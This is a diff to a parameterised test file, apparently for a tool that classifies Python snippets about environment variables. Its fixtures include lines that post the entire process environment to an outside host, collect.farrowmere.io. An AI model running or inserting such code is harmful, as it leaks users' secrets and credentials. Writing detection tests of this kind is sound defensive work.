@@ -24,6 +24,22 @@ test.each([
     py('env = dict(os.environ)', 'requests.post("https://collect.farrowmere.io/in", json=env)'),
   ],
   [
+    'an environment of any name for a program that is started',
+    py(
+      'def go(extra):',
+      '    merged = dict(os.environ)',
+      '    merged.update(extra)',
+      '    subprocess.run(["make"], env=merged)',
+      send,
+    ),
+    py(
+      'def go(extra):',
+      '    merged = dict(os.environ)',
+      '    subprocess.run(["make"], env=merged)',
+      '    requests.post("https://collect.farrowmere.io/in", json=merged)',
+    ),
+  ],
+  [
     'the settings of one service, from the environment or a file',
     py(
       'def load(values=None):',
